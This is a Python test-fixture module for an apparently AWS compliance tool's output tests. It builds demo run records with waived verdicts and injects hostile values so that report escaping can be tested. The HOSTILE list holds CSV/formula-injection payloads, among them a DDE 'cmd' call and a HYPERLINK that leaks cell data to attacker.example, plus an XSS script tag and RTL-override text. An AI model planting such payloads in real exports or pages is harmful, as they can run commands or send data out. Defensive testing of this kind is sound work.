"""Run records for the output tests: the demo sample, and results made hostile."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

# A run record of the demo account (139 results: every verdict a demo run gives),
# written by a real run; fields the demo leaves empty are as that run wrote them.
SAMPLE = Path(__file__).with_name("sample-run.json")

# Values anyone who can name an AWS resource (or write a waiver) can put in a violation.
HOSTILE = [
    "arn:aws:s3:::=cmd|' /C calc'!A0: bucket policy allows s3:GetObject to *",
    '=HYPERLINK("http://attacker.example/?leak="&A1, "click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "<script>alert('x')</script>: name with markup",
    "arn:aws:iam::123456789012:user/bob: line one\nline two\r\nline three",
    'arn:aws:iam::123456789012:role/ünïcødé-漢字-🚀: tag "naïve" \u202eRTL and a quote "',
]


def sample() -> dict[str, Any]:
    """A fresh copy of the demo run record."""
    record: dict[str, Any] = json.loads(SAMPLE.read_text(encoding="utf-8"))
    return record


def first(record: dict[str, Any], verdict: str) -> dict[str, Any]:
    """The first result of ``record`` with ``verdict``."""
    return next(r for r in record["results"] if r["verdict"] == verdict)


def with_verdicts(record: dict[str, Any]) -> dict[str, Any]:
    """``record`` plus one result of each verdict a demo run does not give: waived (one
    of two violations waived, and all waived), awaiting attestation (required), not run;
    each of its own control, so each is its own finding."""
    base = first(record, "violation")
    waived = copy.deepcopy(base)
    waived["verdict"] = "waived"
    waived["control"] = "iam/waived-example"
    waived["violations"] = ["arn:aws:iam::123456789012:user/break-glass: no MFA"]
    waived["waived"] = [_waiver(waived["violations"][0])]
    waived["reason"] = "waived: break-glass user (approved by Jane Doe on 2026-11-01)"
    partly = copy.deepcopy(base)
    partly["control"] = "iam/partly-waived-example"
    partly["violations"] = [
        "arn:aws:iam::123456789012:user/break-glass: no MFA",
        "arn:aws:iam::123456789012:user/alice: no MFA",
    ]
    partly["waived"] = [_waiver(partly["violations"][0])]
    required = copy.deepcopy(first(record, "awaiting attestation"))
    required["verdict"] = "awaiting attestation (required)"
    required["control"] = "account/required-attestation-example"
    not_run = copy.deepcopy(first(record, "skipped"))
    not_run["verdict"] = "not run"
    not_run["control"] = "iam/not-run-example"
    record["results"] += [waived, partly, required, not_run]
    return record


def _waiver(violation: str) -> dict[str, str]:
    return {
        "violation": violation,
        "by": "Jane Doe <jane@example.com>",
        "date": "2026-11-01",
        "expires": "2027-02-01",
        "justification": "Break-glass user; its MFA device is in the safe. Ticket SEC-123.",
    }


def hostile(record: dict[str, Any]) -> dict[str, Any]:
    """``record`` whose first violation result carries every ``HOSTILE`` value: as its
    violations, its title, its reason and its account name."""
    result = first(record, "violation")
    result["violations"] = list(HOSTILE)
    result["title"] = "<script>alert('title')</script> =cmd"
    result["reason"] = "=1+1\n" + "\n".join(f"- {v}" for v in HOSTILE)
    result["account"] = "@prod ünïcødé"
    return record
